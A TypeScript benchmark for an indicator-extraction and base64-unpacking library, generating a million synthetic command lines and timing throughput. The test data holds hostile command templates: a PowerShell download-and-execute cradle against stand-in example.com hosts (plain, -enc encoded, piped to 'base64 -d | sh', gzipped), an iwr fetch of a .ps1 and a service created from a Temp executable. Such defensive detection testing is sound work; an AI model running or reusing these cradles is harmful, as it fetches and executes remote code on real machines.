/**
 * Indicator extraction and base64 unpacking over 1M command lines shaped like
 * the lab's processes_on_host: real command lines drawn (seeded) from it, with
 * indicators injected into ~3% of rows (IPs, domains, URLs, e-mail addresses,
 * hashes, some defanged) and base64 payloads into ~0.5% (plain text, PowerShell
 * UTF-16LE `-enc`, gzip). Figures: rows/s and MB/s of CommandLine text, median
 * of runs.
 * Targets (issue 17, 2-core machine): extraction with the default types
 * ≥ 420k rows/s (100k rows ≤ 0.24 s, 1M ≤ 2.4 s), with all types (paths
 * included) ≥ 400k rows/s, unpacking ≥ 3.5M rows/s (100k ≤ 0.028 s). Worker
 * threads are started before timing (`warmUpWorkers`); the default types are
 * also timed in one thread (`parallel: { workers: 0 }`) for comparison.
 */
import path from "node:path";
import { gzipSync } from "fflate";
import pl from "nodejs-polars";
import { readDataFile } from "../src/data/readers";
import { IoCExtract, BUILTIN_IOC_TYPES } from "../src/transform/iocExtract";
import { base64 } from "../src/transform/base64Unpack";
import { warmUpWorkers } from "../src/transform/workers/pool";
import { collectGarbage, measure, report, seededRandom, type Measurement } from "./harness";

const ROWS = Number(process.env.BENCH_ROWS ?? 1_000_000);

/**
 * The cases to run (`BENCH_INDICATORS_CASES=unpack` times only the unpacking):
 * `unpack`, `default`, `all`, `one` (default types in one thread), `idn` (1 MB of text with internationalised
 * names against its ASCII twin). Default: all five.
 */
const CASES = new Set((process.env.BENCH_INDICATORS_CASES ?? "unpack,default,all,one,idn").split(",").map((c) => c.trim()));

const INDICATORS = [
  (r: () => number) => `ping ${10 + Math.floor(r() * 200)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)}.${Math.floor(r() * 256)} -n 4`,
  (r: () => number) => `nslookup host${Math.floor(r() * 1000)}.contoso-${Math.floor(r() * 50)}.com`,
  (r: () => number) => `powershell -c "iwr http://update${Math.floor(r() * 100)}.example.org/a/b.ps1?id=${Math.floor(r() * 1e6)}"`,
  (r: () => number) => `cmd /c echo user${Math.floor(r() * 100)}@mail.example.net >> C:\\Temp\\x.txt`,
  (r: () => number) => `certutil -hashfile C:\\Users\\Public\\a.exe SHA256 ${hex(r, 64)}`,
  (r: () => number) => `sc.exe create svc binPath= C:\\Windows\\Temp\\${hex(r, 8)}.exe md5=${hex(r, 32)}`,
  (r: () => number) => `curl hxxps://bad${Math.floor(r() * 100)}[.]xyz/drop`,
  (r: () => number) => `netsh interface portproxy add v4tov4 listenport=8080 connectaddress=fe80::${hex(r, 4)}:1`,
];

function hex(r: () => number, n: number): string {
  let s = "";
  for (let i = 0; i < n; i++) s += "0123456789abcdef"[Math.floor(r() * 16)];
  return s;
}

function payload(r: () => number): string {
  const cmd = `IEX (New-Object Net.WebClient).DownloadString('http://stage${Math.floor(r() * 100)}.example.com/p${Math.floor(r() * 1000)}')`;
  const kind = r();
  if (kind < 0.4) return `powershell.exe -NoP -enc ${Buffer.from(cmd, "utf16le").toString("base64")}`;
  if (kind < 0.8) return `cmd /c echo ${Buffer.from(cmd).toString("base64")} | base64 -d | sh`;
  // The gzip header's mtime (bytes 4–7) is zeroed: zlib writes the current time there, and the input must be the same on every run.
  const gz = gzipSync(Buffer.from(cmd)).fill(0, 4, 8);
  return `powershell -c "$d=[Convert]::FromBase64String('${Buffer.from(gz).toString("base64")}')"`;
}

/**
 * About 1 MB of proxy-log-like text naming 500 internationalised hosts (German, Cyrillic, Greek labels) in URLs,
 * addresses and bare names, hosts repeating as in a log; `ascii` writes the same text with ASCII letters.
 */
function idnText(ascii: boolean): string {
  const r = seededRandom(11);
  const letters = ascii ? "abcdefghijklmnop" : "äöüßаеорсхαβγδεζ";
  const word = () => Array.from({ length: 4 + Math.floor(r() * 6) }, () => letters[Math.floor(r() * letters.length)]).join("");
  const hosts = Array.from({ length: 500 }, () => `${word()}.${word()}.${["de", "com", "org", "ru"][Math.floor(r() * 4)]}`);
  const parts: string[] = [];
  for (let size = 0; size < 1 << 20; ) {
    const h = hosts[Math.floor(r() * hosts.length)];
    const line = `GET http://${h}/${word()}?q=${word()} from ${word()}@${h} via ${h} status 200\n`;
    parts.push(line);
    size += line.length;
  }
  return parts.join("");
}

export function generate(rows: number): pl.DataFrame {
  const source = readDataFile(path.join(__dirname, "..", "data", "processes_on_host.parquet"));
  const real = (source.getColumn("CommandLine").toArray() as unknown as (string | null)[]).filter((c): c is string => c !== null);
  const r = seededRandom(7);
  const lines = new Array<string>(rows);
  for (let i = 0; i < rows; i++) {
    const x = r();
    if (x < 0.005) lines[i] = payload(r);
    else if (x < 0.035) lines[i] = INDICATORS[Math.floor(r() * INDICATORS.length)](r);
    else lines[i] = real[Math.floor(r() * real.length)];
  }
  return pl.DataFrame({ CommandLine: lines });
}

/**
 * `measure` plus the process CPU time per run (every thread: polars' and the
 * workers'): on the shared machine wall times swing with the load, CPU time much less.
 */
async function measureCpu(name: string, fn: () => unknown, options: { runs: number; targetMs?: number; release?: boolean }): Promise<Measurement & { cpuMs: number }> {
  const before = process.cpuUsage();
  const m = await measure(name, fn, options);
  const used = process.cpuUsage(before);
  return { ...m, cpuMs: (used.user + used.system) / 1000 / (options.runs + 1) };
}

export async function run(): Promise<void> {
  const t0 = performance.now();
  const df = generate(ROWS);
  collectGarbage();
  const mb = (df.getColumn("CommandLine").str.lengths().sum() as number) / 1e6;
  console.log(`generated ${ROWS} command lines (${mb.toFixed(0)} MB) in ${((performance.now() - t0) / 1000).toFixed(1)} s`);
  const workers = await warmUpWorkers();
  console.log(`worker threads: ${workers ? "ready" : "unavailable (everything in one thread)"}`);
  const iocs = new IoCExtract();
  const rows = [];
  let found = 0;
  const rate = (ms: number) => `${((ROWS / ms) * 1000 / 1e3).toFixed(0)}k rows/s, ${((mb / ms) * 1000).toFixed(0)} MB/s`;
  let decoded = 0;
  if (CASES.has("unpack")) {
    const unpack = await measureCpu(`base64.unpackDf (${ROWS} rows)`, () => {
      decoded = base64.unpackDf(df, { column: "CommandLine" }).height;
    }, { runs: 9, targetMs: (ROWS / 3_500_000) * 1000 });
    unpack.note = `${rate(unpack.medianMs)}; CPU ${unpack.cpuMs.toFixed(0)} ms/run; ${decoded} items decoded`;
    rows.push(unpack);
    // Again with the previous run's memory freed before each run (harness `releaseMemory`): back to back, every run
    // above faults in fresh pages, as a first call does; this is a session whose earlier results were collected.
    const released = await measureCpu(`base64.unpackDf (${ROWS} rows), memory released between runs`, () => {
      decoded = base64.unpackDf(df, { column: "CommandLine" }).height;
    }, { runs: 9, targetMs: (ROWS / 3_500_000) * 1000, release: true });
    released.note = `${rate(released.medianMs)}`;
    rows.push(released);
    collectGarbage();
  }
  if (CASES.has("default")) {
    const extractDefault = await measureCpu(`extract, default types (${ROWS} rows)`, () => {
      found = iocs.extract(df, { columns: ["CommandLine"] }).height;
    }, { runs: 3, targetMs: (ROWS / 420_000) * 1000 });
    extractDefault.note = `${rate(extractDefault.medianMs)}; CPU ${extractDefault.cpuMs.toFixed(0)} ms/run; ${found} observables`;
    rows.push(extractDefault);
    collectGarbage();
  }
  if (CASES.has("all")) {
    const extractAll = await measureCpu(`extract, all 10 types (${ROWS} rows)`, () => {
      found = iocs.extract(df, { columns: ["CommandLine"], iocTypes: BUILTIN_IOC_TYPES }).height;
    }, { runs: 3, targetMs: (ROWS / 400_000) * 1000 });
    extractAll.note = `${rate(extractAll.medianMs)}; CPU ${extractAll.cpuMs.toFixed(0)} ms/run; ${found} observables`;
    rows.push(extractAll);
    collectGarbage();
  }
  if (CASES.has("one")) {
    const extractOne = await measureCpu(`extract, default types, one thread (${ROWS} rows)`, () => {
      found = iocs.extract(df, { columns: ["CommandLine"], parallel: { workers: 0 } }).height;
    }, { runs: 3 });
    extractOne.note = `${rate(extractOne.medianMs)}; CPU ${extractOne.cpuMs.toFixed(0)} ms/run; for comparison`;
    rows.push(extractOne);
  }
  if (CASES.has("idn")) {
    // tr46 (UTS #46) maps each internationalised name: ~20× the rest of the scan per name, so each distinct label and
    // name is mapped once (src/transform/domains.ts). Target: within 3× of the same text in ASCII.
    for (const ascii of [true, false]) {
      const text = idnText(ascii);
      iocs.extractText(text.slice(0, 4096), { iocTypes: BUILTIN_IOC_TYPES });
      const m = await measureCpu(`extractText, all types, 1 MB of text with ${ascii ? "ASCII" : "internationalised"} names`, () => {
        found = Object.values(iocs.extractText(text, { iocTypes: BUILTIN_IOC_TYPES })).reduce((n, v) => n + v.length, 0);
      }, { runs: 5, ...(ascii ? {} : { targetMs: 3 * (rows.at(-1)?.medianMs ?? Infinity) }) });
      m.note = `CPU ${m.cpuMs.toFixed(0)} ms/run; ${found} distinct observables${ascii ? "; the twin for the next row's target (3×)" : ""}`;
      rows.push(m);
    }
  }
  report(`Indicators: IoC extraction and base64 over ${ROWS.toLocaleString("en")} command lines`, rows);
}
